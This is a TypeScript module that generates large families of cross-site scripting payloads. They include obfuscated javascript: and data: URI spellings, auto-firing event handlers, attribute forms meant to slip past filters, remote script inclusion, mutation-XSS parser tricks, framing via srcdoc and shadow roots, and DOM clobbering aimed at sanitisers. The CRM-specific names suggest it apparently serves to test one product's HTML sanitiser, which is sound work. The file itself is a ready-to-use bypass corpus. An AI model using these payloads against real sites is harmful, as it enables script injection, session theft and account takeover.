import { words, type Attack } from './attack.ts'

/* Families of HTML that runs script, where it is shown as it came. */

const entities = (text: string, form: (code: number) => string) => [...text].map((sign) => form(sign.codePointAt(0)!)).join('')

/** The same script address as browsers read it, in many spellings. */
export const spellings: ((js: string) => string)[] = [
  (js) => `javascript:${js}`,
  (js) => `JaVaScRiPt:${js}`,
  (js) => ` \u0001javascript:${js}`,
  (js) => `java\tscript:${js}`,
  (js) => `java&#10;script:${js}`,
  (js) => `java&Tab;script&colon;${js}`,
  (js) => entities(`javascript:${js}`, (code) => `&#${code};`),
  (js) => entities(`javascript:${js}`, (code) => `&#x${code.toString(16)}`),
  (js) => entities(`javascript:${js}`, (code) => `&#${String(code).padStart(7, '0')}`),
  (js) => `javascript://x/%0a${js}`,
  (js) => `javascript:'<script>${js}</script>'`,
  (js) => `vbscript:${js}`,
  (js) => `data:text/html,<script>${js}</script>`,
  (js) => `data:text/html;base64,${btoa(`<script>${js}</script>`)}`,
  (js) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${js}'/>`,
  (js) => `blob:null/${js}`,
  (js) => `view-source:javascript:${js}`,
]

/** Handlers that fire without anybody doing anything, on what loads or fails. */
const selfFiring: [element: string, attributes: string, handlers: string][] = [
  ['img', 'src=/none', 'onerror onload'],
  ['img', 'src="data:image/gif;base64,R0lGODlhAQABAAAAACw="', 'onload'],
  ['image', 'src=/none', 'onerror'],
  ['video', 'src=/none', 'onerror onloadstart'],
  ['audio', 'src=/none', 'onerror onloadstart'],
  ['video', '', 'onerror'],
  ['object', 'data=/none', 'onerror onload'],
  ['embed', 'src=/none', 'onerror onload'],
  ['iframe', 'src=about:blank', 'onload'],
  ['iframe', '', 'onload'],
  ['input', 'type=image src=/none', 'onerror'],
  ['input', 'autofocus', 'onfocus'],
  ['select', 'autofocus', 'onfocus'],
  ['textarea', 'autofocus', 'onfocus'],
  ['button', 'autofocus', 'onfocus'],
  ['a', 'href=# autofocus', 'onfocus'],
  ['div', 'tabindex=0 autofocus', 'onfocus onfocusin'],
  ['details', 'open', 'ontoggle'],
  ['svg', '', 'onload'],
  ['script', 'src=/none', 'onerror'],
  ['link', 'rel=stylesheet href=/none', 'onerror onload'],
  ['style', '', 'onload'],
  ['body', '', 'onload onpageshow'],
  ['marquee', 'loop=1 width=0', 'onstart onfinish'],
  ['track', 'src=/none default', 'onerror'],
]

const pointed = words(`
  onclick ondblclick onmousedown onmouseup onmouseover onmouseenter onmousemove onmouseout onpointerdown onpointerover onpointerenter
  onpointerrawupdate onwheel onscroll ondrag ondragstart ondrop oncopy oncut onpaste onkeydown onkeypress onbeforeinput oninput onblur
  oncontextmenu onauxclick onanimationstart ontransitionend ontouchstart onbeforetoggle onscrollend oncontentvisibilityautostatechange
  onbeforematch onsecuritypolicyviolation onformdata oncommand`)
const carriers = words('p a div span img table td video font b li custom-element')

export const handlers: readonly Attack[] = [
  ...selfFiring.flatMap(([element, attributes, names]) =>
    words(names).map(
      (name): Attack =>
        ({ js }) =>
          `<${element} ${attributes} ${name}="${js}">x</${element}>`,
    ),
  ),
  ...pointed.map(
    (name, at): Attack =>
      ({ js }) =>
        `<${carriers[at % carriers.length]} ${name}="${js}" style="animation: x 1s; transition: all 1s">x</${carriers[at % carriers.length]}>`,
  ),
]

/** How attributes may be written so that a filter overlooks them. */
export const written: readonly Attack[] = [
  ({ js }) => `<img src=/none onerror=${js}>`,
  ({ js }) => `<img src=/none onerror='${js}'>`,
  ({ js }) => `<img src=/none onerror=\`${js}\`>`,
  ({ js }) => `<img/src=/none/onerror=${js}>`,
  ({ js }) => `<img src=/none\u000conerror=${js}>`,
  ({ js }) => `<img src=/none\nonerror\n=\n${js}>`,
  ({ js }) => `<IMG SRC=/none ONERROR="${js}">`,
  ({ js }) => `<img src=/none oNeRrOr="${js}">`,
  ({ js }) => `<img src="/none"onerror="${js}">`,
  ({ js }) => `<img src=/none alt="a>b" onerror="${js}">`,
  ({ js }) => `<img src=/none alt='"' title="'" onerror="${js}">`,
  ({ js }) => `<img src=/none onerror="${entities(js, (code) => `&#${code};`)}">`,
  ({ js }) => `<img src=/none onerror="${entities(js, (code) => `&#x${code.toString(16)};`)}">`,
  ({ js }) => `<img src=/none data-x="><img src=/none onerror=${js}>">`,
  ({ js }) => `<img src=/none x=" onerror=" onerror="${js}">`,
  ({ js }) => `<img\0 src=/none onerror="${js}">`,
  ({ js }) => `<img src=/none on\0error="${js}">`,
  ({ js }) => `<im\0g src=/none onerror="${js}">`,
  ({ js }) => `<\0img src=/none onerror="${js}">`,
  ({ js }) => `<<img src=/none onerror="${js}">`,
  ({ js }) => `<img src=/none onerror="${js}"`,
  ({ js }) => `<img src=/none onerror="${js}`,
  ({ js }) => `<img src=/none onerror=${js}//`,
  ({ js }) => `<p =x><img ==x src=/none onerror="${js}">`,
  ({ js }) => `<p "<img src=/none onerror="${js}">`,
  ({ js }) => `<a title="</a><img src=/none onerror=${js}>">x`,
  ({ js }) => `</p><img src=/none onerror="${js}"></p>`,
  ({ js }) => `</div></div></div><img src=/none onerror="${js}">`,
  ({ js }) => `&lt;img src=/none onerror="${js}"&gt;<img src=/none onerror="${js}">`,
  ({ js }) => `<img data-crm-style="x" style="x" src=/none onerror="${js}">`,
  ({ js }) => `<style><p title="</style><img src=/none onerror=${js}>">`,
  ({ js }) => `<script><p title="</script><img src=/none onerror=${js}>">`,
]

export const scripts: readonly Attack[] = [
  ({ js }) => `<script>${js}</script>`,
  ({ js }) => `<SCRIPT>${js}</SCRIPT>`,
  ({ js }) => `<script\t>${js}</script\n>`,
  ({ js }) => `<script/x>${js}</script>`,
  ({ js }) => `<scr<script>ipt>${js}</scr</script>ipt>`,
  ({ js }) => `<script type=module>${js}</script>`,
  ({ far }) => `<script src="${far}"></script>`,
  ({ far }) => `<script src=//${far.slice(8)}></script>`,
  ({ js }) => `<svg><script>${js}</script></svg>`,
  ({ js }) => `<svg><script>${entities(js, (code) => `&#${code};`)}</script></svg>`,
  ({ js }) => `<svg><script href="data:text/javascript,${js}"></script></svg>`,
  ({ js }) => `<math><script>${js}</script></math>`,
  ({ js }) => `<script>${js}`,
  ({ js }) => `<script><!--\n${js}\n--></script>`,
  ({ js }) => `<![CDATA[<script>${js}</script>]]>`,
  ({ js }) => `<svg><![CDATA[</svg><img src=/none onerror=${js}>]]>`,
  ({ js }) => `<?xml version="1.0"?><script>${js}</script>`,
  ({ js }) => `<!--><script>${js}</script>-->`,
  ({ js }) => `<!--x--!><script>${js}</script>-->`,
  ({ js }) => `<!-- --><img src=/none onerror=${js}><!-- -->`,
  ({ js }) => `<!><script>${js}</script>`,
  ({ js }) => `</x><script>${js}</script>`,
]

/** Where an address may stand. */
const addressed: ((address: string) => string)[] = [
  (at) => `<a href="${at}">x</a>`,
  (at) => `<a href="${at}" target=_self>x</a>`,
  (at) => `<svg><a xlink:href="${at}"><text y=10>x</text></a></svg>`,
  (at) => `<svg><a href="${at}"><text y=10>x</text></a></svg>`,
  (at) => `<math href="${at}"><mtext>x</mtext></math>`,
  (at) => `<math><maction actiontype=statusline xlink:href="${at}">x</maction></math>`,
  (at) => `<img src=/none usemap=#m><map name=m><area shape=default href="${at}">x</map>`,
  (at) => `<iframe src="${at}"></iframe>`,
  (at) => `<frameset><frame src="${at}"></frameset>`,
  (at) => `<object data="${at}"></object>`,
  (at) => `<embed src="${at}">`,
  (at) => `<form action="${at}"><button>x</button></form>`,
  (at) => `<form><button formaction="${at}">x</button></form>`,
  (at) => `<form><input type=submit formaction="${at}"></form>`,
  (at) => `<base href="${at}"><a href=x>x</a>`,
  (at) => `<meta http-equiv=refresh content="0;url=${at}">`,
  (at) => `<link rel=stylesheet href="${at}">`,
  (at) => `<img src="${at}">`,
  (at) => `<video poster="${at}"></video>`,
  (at) => `<input type=image src="${at}">`,
  (at) => `<body background="${at}">`,
  (at) => `<table background="${at}"><tr><td background="${at}">x</table>`,
  (at) => `<blockquote cite="${at}">x</blockquote>`,
  (at) => `<svg><use href="${at}#x"></use></svg>`,
  (at) => `<svg><image href="${at}" width=9 height=9></image></svg>`,
]

export const addresses: readonly Attack[] = addressed.flatMap((place, at): Attack[] => {
  const few = at < 4 ? spellings : spellings.filter((_, spelling) => (spelling + at) % 4 === 0)
  return few.map(
    (spell): Attack =>
      ({ js }) =>
        place(spell(js)),
  )
})

export const moved: readonly Attack[] = [
  ({ js }) => `<svg><animate onbegin="${js}" attributeName=x dur=1s>`,
  ({ js }) => `<svg><animate onend="${js}" attributeName=x dur=1ms>`,
  ({ js }) => `<svg><set onbegin="${js}" attributename=x>`,
  ({ js }) => `<svg><animateTransform onbegin="${js}" attributeName=transform>`,
  ({ js }) => `<svg><a><animate attributeName=href values="javascript:${js}" /><text y=20>x</text></a></svg>`,
  ({ js }) => `<svg><a><set attributeName=href to="javascript:${js}" /><text y=20>x</text></a></svg>`,
  ({ js }) => `<svg><a><animate attributeName=xlink:href from="javascript:${js}" to=1 /><text y=20>x</text></a></svg>`,
  ({ js }) => `<svg><foreignObject><img src=/none onerror="${js}"></foreignObject></svg>`,
  ({ js }) => `<svg><desc><img src=/none onerror="${js}"></desc></svg>`,
  ({ js }) => `<svg><title><img src=/none onerror="${js}"></title></svg>`,
  ({ js }) => `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event=load>${js}</handler></svg>`,
  ({ js }) => `<svg onload="${js}" />`,
  ({ js }) => `<svg/onload=${js}>`,
  ({ js }) => `<svg><g/onload=${js}></g></svg>`,
  ({ js }) =>
    `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href=1 onerror='${js}'/></svg>#x"/></svg>`,
]

/** What is harmless as it was read and is not when it is written and read again. */
export const mutating: readonly Attack[] = [
  ...words('noscript template xmp noembed noframes title textarea style script iframe plaintext').flatMap((name): Attack[] => [
    ({ js }) => `<${name}><p title="</${name}><img src=/none onerror=${js}>"></${name}>`,
    ({ js }) => `<${name}></${name}><img src=/none onerror=${js}>`,
    ({ js }) => `<svg><${name}><img alt="</${name}><img src=/none onerror=${js}>"></${name}></svg>`,
    ({ js }) => `<math><mtext><${name}><a title="</${name}><img src=/none onerror=${js}>"></${name}></mtext></math>`,
  ]),
  ({ js }) =>
    `<form><math><mtext></form><form><mglyph><style></math><img src=/none onerror=${js}></style></mglyph></form></mtext></math></form>`,
  ({ js }) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=/none onerror=${js}&gt;"></style></mglyph></table></mtext></math>`,
  ({ js }) => `<math><mtext><table><mglyph><style><math><img src=/none onerror=${js}></style></mglyph></table></mtext></math>`,
  ({ js }) => `<svg></p><style><a id="</style><img src=/none onerror=${js}>">`,
  ({ js }) => `<svg><p><style><a title="</style></svg><img src=/none onerror=${js}>">`,
  ({ js }) =>
    `<math><annotation-xml encoding="text/html"><style><img title="</style><img src=/none onerror=${js}>"></annotation-xml></math>`,
  ({ js }) => `<math><mi><svg><mglyph><svg><mtext><style><a title="</style><img src=/none onerror=${js}>"></math>`,
  ({ js }) => `<svg><foreignObject><math><mi><style><img title="</style><img src=/none onerror=${js}>"></foreignObject></svg>`,
  ({ js }) => `${'<div>'.repeat(600)}<table><caption><svg><title><style><a title="</style><img src=/none onerror=${js}>">`,
  ({ js }) => `<select><iframe></select><img src=/none onerror=${js}></iframe>`,
  ({ js }) => `<select><style></select><img src=/none onerror=${js}></style>`,
  ({ js }) => `<table><td><select><svg><style></select><img src=/none onerror=${js}>`,
  ({ js }) => `<listing>&lt;img src=/none onerror=${js}&gt;</listing>`,
  ({ js }) => `<p><table><a title="<p></table><img src=/none onerror=${js}>">`,
  ({ js }) => `<b><p><table></b><img src=/none onerror=${js}></table></p>`,
  ({ js }) => `<option><style></option></select><img src=/none onerror=${js}></style>`,
]

export const framed: readonly Attack[] = [
  ({ js }) => `<iframe srcdoc="<script>parent.${js}</script>"></iframe>`,
  ({ js }) => `<iframe srcdoc="&lt;img src=/none onerror=parent.${js}&gt;"></iframe>`,
  ({ js }) => `<iframe src=about:blank srcdoc='<svg onload="parent.${js}">'></iframe>`,
  ({ js }) => `<object type=text/html data="data:text/html,<script>parent.${js}</script>"></object>`,
  ({ js }) => `<object><param name=src value="javascript:${js}"></object>`,
  ({ js }) => `<embed type=image/svg+xml src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.${js}'/>">`,
  ({ js }) => `<template shadowrootmode=open><img src=/none onerror=${js}></template>`,
  ({ js }) => `<div><template shadowrootmode=open><script>${js}</script></template></div>`,
  ({ js }) => `<template><script>${js}</script></template>`,
  ({ js }) => `<portal src="javascript:${js}"></portal>`,
  ({ js }) => `<fencedframe src="javascript:${js}"></fencedframe>`,
  ({ js }) => `<isindex action="javascript:${js}" type=image>`,
  ({ js }) => `<keygen autofocus onfocus=${js}>`,
  ({ js }) => `<xml id=x><a href="javascript:${js}">x</a></xml>`,
  ({ js }) => `<x contenteditable autofocus onfocus=${js}>x</x>`,
  ({ js }) => `<a is=x-y onclick=${js} href=#>x</a>`,
  ({ js }) => `<crm-designer onclick=${js} base-url="javascript:${js}">x</crm-designer>`,
]

/** Names that hide what a sanitiser or the page around reads. */
export const clobbering: readonly Attack[] = [
  ...words('attributes nodeName parentNode childNodes removeChild firstChild namespaceURI insertBefore ownerDocument textContent').flatMap(
    (name): Attack[] => [
      ({ js }) => `<form onclick=${js}><input name=${name}></form>`,
      ({ js }) => `<form><img src=/none name=${name} onerror=${js}><input id=${name}></form>`,
    ],
  ),
  ...words('body head cookie location defaultView createElement hit crm').map(
    (name): Attack =>
      ({ js, far }) =>
        `<img name=${name} src=/none onerror=${js}><a id=${name} href="${far}">x</a><a id=${name} name=x href="${far}">x</a>`,
  ),
]
